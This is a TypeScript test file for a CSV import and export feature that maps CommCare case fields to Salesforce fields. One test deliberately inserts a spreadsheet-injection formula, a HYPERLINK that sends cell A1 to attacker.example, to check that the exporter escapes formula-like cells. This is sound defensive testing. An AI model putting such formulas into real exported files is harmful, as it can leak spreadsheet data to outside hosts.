import { describe, expect, it } from 'vitest';
import { exportCsv, importSheets } from '../src/index.js';
import { asData, exportInput, loadExample } from './helpers.js';
import { manifest } from './fixtures.js';

const enc = (text: string): Uint8Array => new TextEncoder().encode(text);

describe('CSV', () => {
  it('reads a CSV saved by Excel as "CSV UTF-8" (byte-order mark, CRLF, quoted cells with line breaks)', async () => {
    const csv =
      '\uFEFFSource field,Source type,Destination field,Destination type,Required,Transformation,Comments\r\n' +
      'case_id,text,CommCare_ID__c,text,yes,,External ID\r\n' +
      '"properties.first_name\nproperties.last_name",text,Name,string,yes,"expression: first + \' \' + last",\r\n' +
      ',,,,,,\r\n' +
      'properties.sex,select_one sex,Gender__c,picklist,,"male -> Male; female -> Female",Needs a decision on "other"\r\n';
    const result = await importSheets(enc(csv), { file: 'sheets/Patient.csv', format: 'csv', manifest, source: 'commcare:case (patient)', destination: 'salesforce:Patient__c' });
    expect(result.diagnostics).toEqual([]);
    const m = result.mappings[0]?.mapping;
    expect(m?.id).toBe('Patient');
    expect(asData(m?.fields)).toEqual([
      { source: { path: 'case_id', type: 'string' }, destination: { path: 'CommCare_ID__c', type: 'string', required: true }, comment: 'External ID' },
      { source: { paths: ['properties.first_name', 'properties.last_name'], type: 'string' }, destination: { path: 'Name', type: 'string', required: true }, transform: { expression: "first + ' ' + last" } },
      { source: { path: 'properties.sex', type: 'choice' }, destination: { path: 'Gender__c', type: 'choice' }, transform: { valueMap: { male: 'Male', female: 'Female' } }, comment: 'Needs a decision on "other"' },
    ]);
  });

  it('round-trips an example through export --format csv (formula-like text is escaped, then restored)', async () => {
    const input = exportInput(loadExample('commcare-salesforce'));
    const hostile = structuredClone(input.mappings[0]);
    if (!hostile) throw new Error('no mapping');
    const field = hostile.fields[0];
    if (!field) throw new Error('no field');
    field.comment = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
    field.notes = '@SUM(1+1)';
    const files = exportCsv({ ...input, mappings: [hostile] });
    expect(files).toHaveLength(1);
    const text = files[0]?.text ?? '';
    // Every formula-like cell starts with an apostrophe: no spreadsheet evaluates it.
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"`);
    expect(text).toContain("'@SUM(1+1)");
    expect(text.split('\r\n').some((line) => /(^|,)[=+@]/.test(line))).toBe(false);
    const back = await importSheets(enc(text), { file: 'x.csv', format: 'csv', manifest: input.manifest });
    const m = back.mappings[0]?.mapping;
    expect(m?.fields[0]?.comment).toBe(field.comment);
    expect(m?.fields[0]?.notes).toBe('@SUM(1+1)');
    expect(m?.fields.map((f) => f.destination.path)).toEqual(hostile.fields.map((f) => f.destination.path));
    expect(asData(m?.fields.map((f) => f.transform))).toEqual(asData(hostile.fields.map((f) => f.transform)));
  });
});
